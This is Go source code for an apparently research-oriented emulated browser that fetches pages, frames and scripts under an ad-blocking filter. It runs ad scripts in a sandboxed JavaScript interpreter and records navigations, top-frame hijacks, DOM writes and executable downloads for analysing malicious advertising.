func (b *Browser) blockedBy(url string, rt easylist.ResourceType, docHost string) bool {
	if b.Blocker == nil {
		return false
	}
	blocked, _ := b.Blocker.MatchCtx(&b.blockCtx, easylist.Request{URL: url, Type: rt, DocHost: docHost})
	return blocked
}

// get issues a single GET with the browser's headers, honoring the blocker
// and the caller's context.
func (b *Browser) get(ctx context.Context, url, referer string) (*http.Response, error) {
	if b.Blocker != nil && b.blockedBy(url, easylist.TypeSubdocument, urlx.Host(referer)) {
		return nil, &BlockedError{URL: url}
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	if b.uaVal == nil {
		b.uaVal = []string{b.Profile.UserAgent}
		b.baseHeader = http.Header{"User-Agent": b.uaVal}
	}
	if referer == "" {
		req.Header = b.baseHeader
	} else {
		h := make(http.Header, 2)
		h["User-Agent"] = b.uaVal
		h["Referer"] = []string{referer}
		req.Header = h
	}
	// The browser follows redirects itself (CheckRedirect returns
	// ErrUseLastResponse), so with no cookie jar or client timeout Client.Do
	// adds nothing but a deep header copy for a redirect chain that never
	// happens; round-trip the transport directly in that common case.
	if b.Client.Jar == nil && b.Client.Timeout == 0 {
		rt := b.Client.Transport
		if rt == nil {
			rt = http.DefaultTransport
		}
		return rt.RoundTrip(req)
	}
	return b.Client.Do(req)
}

// BlockedError reports a fetch suppressed by the ad blocker.
type BlockedError struct{ URL string }

func (e *BlockedError) Error() string { return "browser: blocked by filter: " + e.URL }

// IsNXDomain reports whether err is a name-resolution failure.
func IsNXDomain(err error) bool {
	if err == nil {
		return false
	}
	var nx *memnet.NXDomainError
	if errors.As(err, &nx) {
		return true
	}
	return strings.Contains(err.Error(), "no such host")
}

// loadResources fetches images, embeds/objects, and external scripts found
// in the document. A failed subresource is recorded and skipped; the page
// keeps rendering with what it has.
func (b *Browser) loadResources(ctx context.Context, page *Page) {
	var docHost string
	if b.Blocker != nil {
		docHost = urlx.Host(page.FinalURL)
	}
	fetch := func(n *htmlparse.Node, attr, tag string, keepBody bool) {
		src, ok := n.Attr(attr)
		if !ok || src == "" {
			return
		}
		abs := urlx.Resolve(page.FinalURL, src)
		if abs == "" {
			return
		}
		if b.Blocker != nil {
			rt := easylist.TypeImage
			if tag == "script" {
				rt = easylist.TypeScript
			}
			if b.blockedBy(abs, rt, docHost) {
				page.Blocked = append(page.Blocked, abs)
				return
			}
		}
		res := Resource{URL: abs, Tag: tag}
		b.stampOrigin(page.FrameID, page.FinalURL, tag)
		resp, err := b.get(ctx, abs, page.FinalURL)
		if err != nil {
			res.Err = err.Error()
			page.Resources = append(page.Resources, res)
			return
		}
		body := readCapped(resp)
		resp.Body.Close()
		res.Status = resp.StatusCode
		res.ContentType = mediaType(resp.Header.Get("Content-Type"))
		page.Resources = append(page.Resources, res)
		if keepBody && (isDownloadType(res.ContentType) || res.ContentType == "application/x-shockwave-flash") {
			page.Downloads = append(page.Downloads, Download{URL: abs, ContentType: res.ContentType, Body: body})
		}
	}
	for _, img := range page.Doc.Find("img") {
		fetch(img, "src", "img", false)
	}
	for _, em := range page.Doc.Find("embed") {
		fetch(em, "src", "embed", true)
	}
	for _, ob := range page.Doc.Find("object") {
		fetch(ob, "data", "embed", true)
	}
	for _, sc := range page.Doc.Find("script") {
		if _, ok := sc.Attr("src"); ok {
			fetch(sc, "src", "script", false)
		}
	}
}

// loadFrames recursively loads iframe children. A child that fails to load
// is still returned (with its own Errors populated), and the failure is
// echoed into the parent's Errors — partial pages keep their surviving
// frames.
func (b *Browser) loadFrames(ctx context.Context, page *Page, depth int) {
	frames := page.Doc.Find("iframe")
	page.FrameElems = frames
	var docHost string
	if b.Blocker != nil {
		docHost = urlx.Host(page.FinalURL)
	}
	for i, f := range frames {
		src, ok := f.Attr("src")
		if !ok || src == "" {
			continue
		}
		abs := urlx.Resolve(page.FinalURL, src)
		if abs == "" {
			continue
		}
		if b.Blocker != nil && b.blockedBy(abs, easylist.TypeSubdocument, docHost) {
			page.Blocked = append(page.Blocked, abs)
			continue
		}
		sandboxed := b.EnforceSandbox && f.HasAttr("sandbox")
		tokens, _ := f.Attr("sandbox")
		// The child's frame ID indexes the iframe's position among the
		// document's iframe elements, so IDs are stable across runs.
		childID := page.FrameID + "." + strconv.Itoa(i)
		child, err := b.loadFrame(ctx, abs, page.FinalURL, depth+1, sandboxed, tokens, childID)
		if err != nil {
			page.Errors = append(page.Errors, fmt.Sprintf("iframe %s: %v", abs, err))
		}
		if child != nil {
			page.Frames = append(page.Frames, child)
		}
	}
}

// readCapped drains up to maxBodyBytes of a response body. When the
// transport declares a credible Content-Length (the in-memory transport
// always does), the buffer is sized exactly once instead of growing through
// io.ReadAll's doubling schedule.
func readCapped(resp *http.Response) []byte {
	// ContentLength 0 is ambiguous (it can mean "unset"), so only a positive
	// declared length takes the presized path.
	if n := resp.ContentLength; n > 0 && n <= maxBodyBytes {
		buf := make([]byte, n)
		m, err := io.ReadFull(resp.Body, buf)
		if err != nil && err != io.ErrUnexpectedEOF {
			return buf[:m]
		}
		if err == nil {
			// Trust but verify: probe one byte past the declared length
			// (allocation-free when the length was honest) and only fall to
			// the generic path when more bytes actually follow.
			var probe [1]byte
			if pn, _ := resp.Body.Read(probe[:]); pn > 0 {
				rest, _ := io.ReadAll(io.LimitReader(resp.Body, maxBodyBytes-n-1))
				return append(append(buf, probe[0]), rest...)
			}
		}
		return buf[:m]
	}
	body, _ := io.ReadAll(io.LimitReader(resp.Body, maxBodyBytes))
	return body
}

func isDownloadType(ct string) bool {
	switch ct {
	case "application/octet-stream", "application/x-msdownload", "application/x-msdos-program":
		return true
	}
	return false
}

func mediaType(ct string) string {
	if i := strings.IndexByte(ct, ';'); i >= 0 {
		ct = ct[:i]
	}
	return strings.TrimSpace(ct)
}

// timerEntry is one queued setTimeout callback. writer is the script that
// queued it, so deferred writes and navigations keep their provenance.
type timerEntry struct {
	delay  float64
	seq    int
	fn     minijs.Value
	writer string
}

// sortTimers orders callbacks by delay then queue order.
func sortTimers(ts []timerEntry) {
	sort.Slice(ts, func(i, j int) bool {
		if ts[i].delay != ts[j].delay {
			return ts[i].delay < ts[j].delay
		}
		return ts[i].seq < ts[j].seq
	})
}
