package browser

import (
	"context"
	"strconv"
	"strings"

	"madave/internal/htmlparse"
	"madave/internal/minijs"
	"madave/internal/urlx"
)

// runScripts executes every inline <script> in the page's DOM, in document
// order, inside a shared execution context. document.write output is parsed
// and appended to the document after each script, and any scripts it
// produced are executed too (bounded). setTimeout callbacks run after the
// synchronous pass, ordered by delay — the browser's logical event loop.
func (b *Browser) runScripts(reqCtx context.Context, page *Page, sandboxed bool) {
	// A page with no inline scripts can never execute anything (external
	// scripts run only when an inline script appendChilds them), so skip
	// building the interpreter and host environment entirely.
	if !hasInlineScript(page.Doc) {
		return
	}
	ctx := &scriptCtx{b: b, page: page, sandboxed: sandboxed, reqCtx: reqCtx}
	interp := minijs.New()
	interp.Budget = b.ScriptBudget
	interp.UseVM = !b.TreeWalkJS
	interp.Host = ctx
	ctx.install(interp)

	executed := map[*htmlparse.Node]bool{}
	inlineSeq := 0
	// Rounds: each round executes scripts not yet run (including ones that
	// document.write introduced in the previous round).
	for round := 0; round < 5; round++ {
		scripts := page.Doc.Find("script")
		ran := false
		for _, s := range scripts {
			if executed[s] {
				continue
			}
			executed[s] = true
			if _, external := s.Attr("src"); external {
				continue // external scripts are fetched as resources, not executed
			}
			src := s.InnerText()
			if strings.TrimSpace(src) == "" {
				continue
			}
			ran = true
			page.Scripts = append(page.Scripts, src)
			ctx.curScript = inlineScriptID(page.FrameID, inlineSeq)
			inlineSeq++
			ctx.runScript(interp, src, "script: ")
			ctx.flushWrites()
		}
		if !ran {
			break
		}
	}

	// Drain timers (setTimeout callbacks may queue more timers and writes).
	for pass := 0; pass < 5 && len(ctx.timers) > 0; pass++ {
		timers := ctx.timers
		ctx.timers = nil
		sortTimers(timers)
		for _, t := range timers {
			ctx.curScript = t.writer
			if _, err := interp.CallFunction(t.fn, minijs.Undefined(), nil); err != nil {
				page.Errors = append(page.Errors, "timer: "+err.Error())
			}
			ctx.flushWrites()
		}
	}
}

// inlineScriptID names the n-th inline script executed in a frame; the
// frame-qualified form keeps script identities distinct across frames in
// the flowgraph.
func inlineScriptID(frameID string, n int) string {
	return "inline:" + frameID + ":" + strconv.Itoa(n)
}

// hasInlineScript reports whether the document holds at least one inline
// (src-less, non-blank) script element.
func hasInlineScript(doc *htmlparse.Node) bool {
	found := false
	doc.Walk(func(n *htmlparse.Node) bool {
		if n.Type == htmlparse.ElementNode && n.Tag == "script" {
			if _, external := n.Attr("src"); !external && strings.TrimSpace(n.InnerText()) != "" {
				found = true
			}
		}
		return !found
	})
	return found
}

// scriptCtx carries the per-document state the host bindings mutate.
type scriptCtx struct {
	b         *Browser
	page      *Page
	sandboxed bool
	// reqCtx bounds every network fetch a script triggers (navigations,
	// external script loads) with the page visit's deadline.
	reqCtx   context.Context
	writeBuf strings.Builder
	timers   []timerEntry
	timerSeq int
	navCount int
	// elements maps wrapped element objects back to their DOM nodes
	// (createElement / getElementById results).
	elements map[*minijs.Object]*htmlparse.Node
	// externalRan guards against re-running the same external script URL.
	externalRan map[string]bool
	// curScript identifies the script currently executing (an inline script
	// ID or an external script URL), the provenance stamped onto DOM writes
	// and script-driven fetches.
	curScript string
}

// nodeOf resolves a wrapped element object to its DOM node.
func (ctx *scriptCtx) nodeOf(el *minijs.Object) *htmlparse.Node {
	return ctx.elements[el]
}

// runExternalScript fetches a script URL and executes its body in the
// document's context (the appendChild ad-loader path).
func (ctx *scriptCtx) runExternalScript(in *minijs.Interp, src string) {
	abs := urlx.Resolve(ctx.page.FinalURL, src)
	if abs == "" {
		return
	}
	if ctx.externalRan == nil {
		ctx.externalRan = map[string]bool{}
	}
	if ctx.externalRan[abs] {
		return
	}
	ctx.externalRan[abs] = true

	res := Resource{URL: abs, Tag: "script"}
	ctx.b.stampOrigin(ctx.page.FrameID, ctx.curScript, "script")
	resp, err := ctx.b.get(ctx.reqCtx, abs, ctx.page.FinalURL)
	if err != nil {
		res.Err = err.Error()
		ctx.page.Resources = append(ctx.page.Resources, res)
		return
	}
	body := readCapped(resp)
	resp.Body.Close()
	res.Status = resp.StatusCode
	res.ContentType = mediaType(resp.Header.Get("Content-Type"))
	ctx.page.Resources = append(ctx.page.Resources, res)
	if resp.StatusCode != 200 {
		return
	}
	src2 := string(body)
	ctx.page.Scripts = append(ctx.page.Scripts, src2)
	prev := ctx.curScript
	ctx.curScript = abs
	ctx.runScript(in, src2, "external script: ")
	ctx.flushWrites()
	ctx.curScript = prev
}

// runScript parses (through the shared code cache when one is configured)
// and executes one script body, recording parse diagnostics and runtime
// errors under the given prefix. With and without a cache the same source
// yields the same Page.Errors, which is what the cache determinism gate
// checks.
func (ctx *scriptCtx) runScript(in *minijs.Interp, src, label string) {
	b := ctx.b
	var prog *minijs.Program
	var perrs []*minijs.SyntaxError
	var err error
	switch {
	case b.CodeCache != nil:
		prog, perrs, err = b.CodeCache.Load(ctx.reqCtx, src, b.TolerantJS)
	case b.TolerantJS:
		prog, perrs = minijs.ParseTolerant(src)
	default:
		prog, err = minijs.Parse(src)
	}
	if err != nil {
		ctx.page.Errors = append(ctx.page.Errors, label+err.Error())
		return
	}
	// Tolerant-mode recovery diagnostics are observations, not failures:
	// they land in Page.Errors and the recovered program still runs.
	for _, pe := range perrs {
		ctx.page.Errors = append(ctx.page.Errors, label+pe.Error())
	}
	if _, rerr := in.RunProgram(prog); rerr != nil {
		ctx.page.Errors = append(ctx.page.Errors, label+rerr.Error())
	}
}

// maxFollowedNavigations bounds how many script navigations the browser
// chases per document.
const maxFollowedNavigations = 3

// install defines the host objects: document, window, top, navigator,
// screen, location, setTimeout — and overrides Math.random with the
// browser's deterministic stream.

// hostCtx recovers the script context from the interpreter's Host slot; the
// shared host natives below use it instead of capturing ctx in per-frame
// closures (one interpreter serves exactly one document, so Host is stable
// for the natives' whole lifetime).
func hostCtx(in *minijs.Interp) *scriptCtx { return in.Host.(*scriptCtx) }

// Shared host natives: built once, installed into every document's
// environment. Everything per-document they touch comes through hostCtx.
var (
	natDocWrite = minijs.NewSharedNative("write", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		ctx := hostCtx(in)
		for _, a := range args {
			ctx.writeBuf.WriteString(minijs.ToString(a))
		}
		return minijs.Undefined(), nil
	})
	// createElement / appendChild: the asynchronous ad-loader pattern
	// (`var s = document.createElement("script"); s.src = ...;
	// document.body.appendChild(s);`). Appended images and iframes land in
	// the DOM and are fetched by the post-script resource/frame passes;
	// appended external scripts are fetched and executed immediately.
	natCreateElement = minijs.NewSharedNative("createElement", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		tag := strings.ToLower(minijs.ToString(argOr(args, 0)))
		node := &htmlparse.Node{Type: htmlparse.ElementNode, Tag: tag}
		return hostCtx(in).wrapElement(in, node).Value(), nil
	})
	natAppendChild = minijs.NewSharedNative("appendChild", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		ctx := hostCtx(in)
		el := argOr(args, 0).Obj()
		if el == nil {
			return minijs.Undefined(), nil
		}
		node := ctx.nodeOf(el)
		if node == nil {
			return argOr(args, 0), nil
		}
		target := ctx.page.Doc.FindFirst("body")
		if target == nil {
			target = ctx.page.Doc
		}
		node.Parent = target
		target.Children = append(target.Children, node)
		// appendChild is a DOM write like document.write, just element-wise.
		ctx.page.DOMWrites = append(ctx.page.DOMWrites, DOMWrite{Writer: ctx.curScript, Tags: []string{node.Tag}})
		// Script elements with a src execute on insertion.
		if node.Tag == "script" {
			if src, has := node.Attr("src"); has && src != "" {
				ctx.runExternalScript(in, src)
			}
		}
		return argOr(args, 0), nil
	})
	natGetElementByID = minijs.NewSharedNative("getElementById", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		ctx := hostCtx(in)
		id := minijs.ToString(argOr(args, 0))
		var found *htmlparse.Node
		ctx.page.Doc.Walk(func(n *htmlparse.Node) bool {
			if found == nil && n.Type == htmlparse.ElementNode && n.AttrOr("id", "") == id {
				found = n
				return false
			}
			return found == nil
		})
		if found == nil {
			return minijs.Null(), nil
		}
		return ctx.wrapElement(in, found).Value(), nil
	})
	natLocReplace = minijs.NewSharedNative("replace", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		hostCtx(in).navigate(NavLocation, minijs.ToString(argOr(args, 0)))
		return minijs.Undefined(), nil
	})
	natLocToString = minijs.NewSharedNative("toString", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Str(hostCtx(in).page.FinalURL), nil
	})
	natSetTimeout = minijs.NewSharedNative("setTimeout", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		ctx := hostCtx(in)
		if len(args) == 0 {
			return minijs.Num(0), nil
		}
		delay := 0.0
		if len(args) > 1 {
			delay = minijs.ToNumber(args[1])
		}
		ctx.timerSeq++
		ctx.timers = append(ctx.timers, timerEntry{delay: delay, seq: ctx.timerSeq, fn: args[0], writer: ctx.curScript})
		return minijs.Num(float64(ctx.timerSeq)), nil
	})
	natClearTimeout = minijs.NewSharedNative("clearTimeout", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Undefined(), nil
	})

	// Date: a logical, fixed clock (Browser.ClockMillis) so runs reproduce.
	// Supports the idioms ad scripts use: Date.now(), new Date().getTime(),
	// getHours(), getDay(), getMinutes().
	natDateNow = minijs.NewSharedNative("now", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Num(float64(hostCtx(in).b.ClockMillis)), nil
	})
	natDateGetTime = minijs.NewSharedNative("getTime", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Num(float64(hostCtx(in).b.ClockMillis)), nil
	})
	natDateGetHours = minijs.NewSharedNative("getHours", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Num(float64(hostCtx(in).b.ClockMillis / 3_600_000 % 24)), nil
	})
	natDateGetDay = minijs.NewSharedNative("getDay", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		// Day 0 (1970-01-01) was a Thursday = weekday 4.
		return minijs.Num(float64((hostCtx(in).b.ClockMillis/86_400_000 + 4) % 7)), nil
	})
	natDateGetMinutes = minijs.NewSharedNative("getMinutes", func(in *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Num(float64(hostCtx(in).b.ClockMillis / 60_000 % 60)), nil
	})
	natDateCtor = func() *minijs.Object {
		o := minijs.NewSharedNative("Date", func(in *minijs.Interp, this minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			obj := this.Obj()
			if obj == nil {
				// Date() called as a function.
				return minijs.Num(float64(hostCtx(in).b.ClockMillis)), nil
			}
			obj.Props["getTime"] = natDateGetTime.Value()
			obj.Props["getHours"] = natDateGetHours.Value()
			obj.Props["getDay"] = natDateGetDay.Value()
			obj.Props["getMinutes"] = natDateGetMinutes.Value()
			return minijs.Undefined(), nil
		})
		o.Props = map[string]minijs.Value{"now": natDateNow.Value()}
		return o
	}()
)

func (ctx *scriptCtx) install(in *minijs.Interp) {
	g := in.Global

	// document ----------------------------------------------------------
	doc := in.NewObject()
	doc.Name = "document"
	doc.Props["URL"] = minijs.Str(ctx.page.FinalURL)
	doc.Props["referrer"] = minijs.Str("")
	docHost := urlx.Host(ctx.page.FinalURL)
	doc.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "cookie" {
			return minijs.Str(ctx.b.cookieHeader(docHost)), true
		}
		return minijs.Value{}, false
	}
	doc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "cookie" {
			ctx.b.setCookie(docHost, minijs.ToString(v))
			return true
		}
		return false
	}
	doc.Props["write"] = natDocWrite.Value()
	doc.Props["writeln"] = doc.Props["write"]
	doc.Props["createElement"] = natCreateElement.Value()
	body := in.NewObject()
	body.Name = "document.body"
	body.Props["appendChild"] = natAppendChild.Value()
	doc.Props["body"] = body.Value()
	doc.Props["getElementById"] = natGetElementByID.Value()
	g.Define("document", doc.Value())

	// navigator / screen --------------------------------------------------
	// Pure functions of the Profile, so they are built once per Browser as
	// frozen shared objects rather than per frame (writes are silently
	// ignored, like the shared builtin method objects).
	if ctx.b.navObj == nil {
		nav := minijs.NewObject()
		nav.Name = "navigator"
		nav.Props["userAgent"] = minijs.Str(ctx.b.Profile.UserAgent)
		plugins := minijs.NewArray()
		for _, p := range ctx.b.Profile.Plugins {
			po := minijs.NewObject()
			po.Props["name"] = minijs.Str(p.Name)
			po.Props["version"] = minijs.Num(p.Version)
			po.Freeze()
			plugins.Elems = append(plugins.Elems, po.Value())
		}
		plugins.Freeze()
		nav.Props["plugins"] = plugins.Value()
		nav.Freeze()
		ctx.b.navObj = nav

		screen := minijs.NewObject()
		screen.Name = "screen"
		screen.Props["width"] = minijs.Num(float64(ctx.b.Profile.ScreenW))
		screen.Props["height"] = minijs.Num(float64(ctx.b.Profile.ScreenH))
		screen.Freeze()
		ctx.b.screenObj = screen
	}
	g.Define("navigator", ctx.b.navObj.Value())
	g.Define("screen", ctx.b.screenObj.Value())

	// location -------------------------------------------------------------
	loc := in.NewObject()
	loc.Name = "location"
	loc.GetTrap = func(name string) (minijs.Value, bool) {
		switch name {
		case "href":
			return minijs.Str(ctx.page.FinalURL), true
		case "host":
			return minijs.Str(urlx.Host(ctx.page.FinalURL)), true
		case "protocol":
			return minijs.Str("http:"), true
		}
		return minijs.Value{}, false
	}
	loc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "href" {
			ctx.navigate(NavLocation, minijs.ToString(v))
			return true
		}
		return false
	}
	loc.Props["replace"] = natLocReplace.Value()
	loc.Props["toString"] = natLocToString.Value()
	g.Define("location", loc.Value())

	// top ------------------------------------------------------------------
	top := in.NewObject()
	top.Name = "top"
	topLoc := in.NewObject()
	topLoc.Name = "top.location"
	topLoc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "href" {
			ctx.navigate(NavTop, minijs.ToString(v))
			return true
		}
		return false
	}
	top.Props["location"] = topLoc.Value()
	top.SetTrap = func(name string, v minijs.Value) bool {
		if name == "location" {
			ctx.navigate(NavTop, minijs.ToString(v))
			return true
		}
		return false
	}
	g.Define("top", top.Value())
	g.Define("parent", top.Value())

	// window ----------------------------------------------------------------
	win := in.NewObject()
	win.Name = "window"
	win.Props["document"] = doc.Value()
	win.Props["navigator"] = ctx.b.navObj.Value()
	win.Props["screen"] = ctx.b.screenObj.Value()
	win.Props["top"] = top.Value()
	win.Props["innerWidth"] = minijs.Num(float64(ctx.b.Profile.ScreenW))
	win.Props["innerHeight"] = minijs.Num(float64(ctx.b.Profile.ScreenH))
	win.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "location" {
			return loc.Value(), true
		}
		return minijs.Value{}, false
	}
	win.SetTrap = func(name string, v minijs.Value) bool {
		if name == "location" {
			ctx.navigate(NavLocation, minijs.ToString(v))
			return true
		}
		return false
	}
	g.Define("window", win.Value())
	g.Define("self", win.Value())

	// setTimeout --------------------------------------------------------------
	g.Define("setTimeout", natSetTimeout.Value())
	win.Props["setTimeout"] = natSetTimeout.Value()
	g.Define("clearTimeout", natClearTimeout.Value())

	// Date: a logical, fixed clock so runs reproduce (see the shared
	// natDate* natives; the clock lives on the Browser).
	g.Define("Date", natDateCtor.Value())

	// Deterministic Math.random from the browser's RNG stream.
	if mathV, ok := g.Lookup("Math"); ok {
		if mathObj := mathV.Obj(); mathObj != nil {
			rng := ctx.b.RNG.Fork("mathrandom:" + ctx.page.FinalURL)
			mathObj.Props["random"] = in.NewNative("random", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
				return minijs.Num(rng.Float64()), nil
			}).Value()
		}
	}
}

// elementAttrs are the element properties scripts read and write that map
// straight onto HTML attributes.
var elementAttrs = map[string]bool{
	"src": true, "href": true, "id": true, "width": true, "height": true,
	"name": true, "type": true, "class": true,
}

// wrapElement exposes a DOM node to scripts: innerHTML, attribute-backed
// properties (src, href, width, ...), and identity for appendChild.
func (ctx *scriptCtx) wrapElement(in *minijs.Interp, n *htmlparse.Node) *minijs.Object {
	o := in.NewObject()
	o.Name = "element:" + n.Tag
	o.Props["tagName"] = minijs.Str(strings.ToUpper(n.Tag))
	o.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "innerHTML" {
			inner := ""
			for _, c := range n.Children {
				inner += c.Render()
			}
			return minijs.Str(inner), true
		}
		if elementAttrs[name] {
			return minijs.Str(n.AttrOr(name, "")), true
		}
		return minijs.Value{}, false
	}
	o.SetTrap = func(name string, v minijs.Value) bool {
		if name == "innerHTML" {
			frag := htmlparse.Parse(minijs.ToString(v))
			n.Children = frag.Children
			return true
		}
		if elementAttrs[name] {
			n.SetAttr(name, minijs.ToString(v))
			return true
		}
		return false
	}
	if ctx.elements == nil {
		ctx.elements = map[*minijs.Object]*htmlparse.Node{}
	}
	ctx.elements[o] = n
	return o
}

// navigate records (and, within limits, follows) a script navigation.
func (ctx *scriptCtx) navigate(kind NavigationKind, target string) {
	abs := urlx.Resolve(ctx.page.FinalURL, target)
	if abs == "" {
		abs = target
	}
	nav := Navigation{Kind: kind, Target: abs}

	// Sandbox policy: a sandboxed frame may not navigate the top page
	// unless allow-top-navigation was granted — the §4.4 countermeasure.
	if kind == NavTop && ctx.sandboxed && !ctx.b.sandboxAllows(ctx.page, "allow-top-navigation") {
		nav.Blocked = true
		ctx.page.Navigations = append(ctx.page.Navigations, nav)
		return
	}

	if ctx.b.FollowNavigations && ctx.navCount < maxFollowedNavigations {
		ctx.navCount++
		// "nav-top" vs "nav-location" in the trace lets the flowgraph
		// separate §2.3 top-hijacks from same-frame script navigations.
		ctx.b.stampOrigin(ctx.page.FrameID, ctx.curScript, "nav-"+string(kind))
		resp, err := ctx.b.get(ctx.reqCtx, abs, ctx.page.FinalURL)
		if err != nil {
			nav.NXDomain = IsNXDomain(err)
		} else {
			nav.Status = resp.StatusCode
			nav.ContentType = mediaType(resp.Header.Get("Content-Type"))
			body := readCapped(resp)
			resp.Body.Close()
			if isDownloadType(nav.ContentType) {
				ctx.page.Downloads = append(ctx.page.Downloads, Download{
					URL: abs, ContentType: nav.ContentType, Body: body,
				})
			}
			// Follow one level of redirect so exe-behind-302 is observed.
			if resp.StatusCode >= 300 && resp.StatusCode < 400 {
				if loc := resp.Header.Get("Location"); loc != "" {
					next := urlx.Resolve(abs, loc)
					ctx.b.stampOrigin(ctx.page.FrameID, abs, "redirect")
					if resp2, err2 := ctx.b.get(ctx.reqCtx, next, abs); err2 == nil {
						ct2 := mediaType(resp2.Header.Get("Content-Type"))
						body2 := readCapped(resp2)
						resp2.Body.Close()
						if isDownloadType(ct2) {
							ctx.page.Downloads = append(ctx.page.Downloads, Download{
								URL: next, ContentType: ct2, Body: body2,
							})
						}
					}
				}
			}
		}
	}
	ctx.page.Navigations = append(ctx.page.Navigations, nav)
}

// flushWrites parses accumulated document.write output and appends it to
// the document body (or root), recording the flush against the writing
// script for the flowgraph's writes-DOM edges.
func (ctx *scriptCtx) flushWrites() {
	if ctx.writeBuf.Len() == 0 {
		return
	}
	frag := htmlparse.Parse(ctx.writeBuf.String())
	ctx.writeBuf.Reset()
	target := ctx.page.Doc.FindFirst("body")
	if target == nil {
		target = ctx.page.Doc
	}
	var tags []string
	for _, c := range frag.Children {
		target.Children = append(target.Children, c)
		c.Parent = target
		if c.Type == htmlparse.ElementNode {
			tags = append(tags, c.Tag)
		}
	}
	ctx.page.DOMWrites = append(ctx.page.DOMWrites, DOMWrite{Writer: ctx.curScript, Tags: tags})
}

func argOr(args []minijs.Value, i int) minijs.Value {
	if i < len(args) {
		return args[i]
	}
	return minijs.Undefined()
}
