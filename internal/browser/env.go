package browser

import (
	"context"
	"strings"

	"madave/internal/htmlparse"
	"madave/internal/minijs"
	"madave/internal/urlx"
)

// runScripts executes every inline <script> in the page's DOM, in document
// order, inside a shared execution context. document.write output is parsed
// and appended to the document after each script, and any scripts it
// produced are executed too (bounded). setTimeout callbacks run after the
// synchronous pass, ordered by delay — the browser's logical event loop.
func (b *Browser) runScripts(reqCtx context.Context, page *Page, sandboxed bool) {
	ctx := &scriptCtx{b: b, page: page, sandboxed: sandboxed, reqCtx: reqCtx}
	interp := minijs.New()
	interp.Budget = b.ScriptBudget
	interp.UseVM = !b.TreeWalkJS
	ctx.install(interp)

	executed := map[*htmlparse.Node]bool{}
	// Rounds: each round executes scripts not yet run (including ones that
	// document.write introduced in the previous round).
	for round := 0; round < 5; round++ {
		scripts := page.Doc.Find("script")
		ran := false
		for _, s := range scripts {
			if executed[s] {
				continue
			}
			executed[s] = true
			if _, external := s.Attr("src"); external {
				continue // external scripts are fetched as resources, not executed
			}
			src := s.InnerText()
			if strings.TrimSpace(src) == "" {
				continue
			}
			ran = true
			page.Scripts = append(page.Scripts, src)
			ctx.runScript(interp, src, "script: ")
			ctx.flushWrites()
		}
		if !ran {
			break
		}
	}

	// Drain timers (setTimeout callbacks may queue more timers and writes).
	for pass := 0; pass < 5 && len(ctx.timers) > 0; pass++ {
		timers := ctx.timers
		ctx.timers = nil
		sortTimers(timers)
		for _, t := range timers {
			if _, err := interp.CallFunction(t.fn, minijs.Undefined{}, nil); err != nil {
				page.Errors = append(page.Errors, "timer: "+err.Error())
			}
			ctx.flushWrites()
		}
	}
}

// scriptCtx carries the per-document state the host bindings mutate.
type scriptCtx struct {
	b         *Browser
	page      *Page
	sandboxed bool
	// reqCtx bounds every network fetch a script triggers (navigations,
	// external script loads) with the page visit's deadline.
	reqCtx   context.Context
	writeBuf strings.Builder
	timers   []timerEntry
	timerSeq int
	navCount int
	// elements maps wrapped element objects back to their DOM nodes
	// (createElement / getElementById results).
	elements map[*minijs.Object]*htmlparse.Node
	// externalRan guards against re-running the same external script URL.
	externalRan map[string]bool
}

// nodeOf resolves a wrapped element object to its DOM node.
func (ctx *scriptCtx) nodeOf(el *minijs.Object) *htmlparse.Node {
	return ctx.elements[el]
}

// runExternalScript fetches a script URL and executes its body in the
// document's context (the appendChild ad-loader path).
func (ctx *scriptCtx) runExternalScript(in *minijs.Interp, src string) {
	abs := urlx.Resolve(ctx.page.FinalURL, src)
	if abs == "" {
		return
	}
	if ctx.externalRan == nil {
		ctx.externalRan = map[string]bool{}
	}
	if ctx.externalRan[abs] {
		return
	}
	ctx.externalRan[abs] = true

	res := Resource{URL: abs, Tag: "script"}
	resp, err := ctx.b.get(ctx.reqCtx, abs, ctx.page.FinalURL)
	if err != nil {
		res.Err = err.Error()
		ctx.page.Resources = append(ctx.page.Resources, res)
		return
	}
	body := readCapped(resp)
	resp.Body.Close()
	res.Status = resp.StatusCode
	res.ContentType = mediaType(resp.Header.Get("Content-Type"))
	ctx.page.Resources = append(ctx.page.Resources, res)
	if resp.StatusCode != 200 {
		return
	}
	src2 := string(body)
	ctx.page.Scripts = append(ctx.page.Scripts, src2)
	ctx.runScript(in, src2, "external script: ")
	ctx.flushWrites()
}

// runScript parses (through the shared code cache when one is configured)
// and executes one script body, recording parse diagnostics and runtime
// errors under the given prefix. With and without a cache the same source
// yields the same Page.Errors, which is what the cache determinism gate
// checks.
func (ctx *scriptCtx) runScript(in *minijs.Interp, src, label string) {
	b := ctx.b
	var prog *minijs.Program
	var perrs []*minijs.SyntaxError
	var err error
	switch {
	case b.CodeCache != nil:
		prog, perrs, err = b.CodeCache.Load(ctx.reqCtx, src, b.TolerantJS)
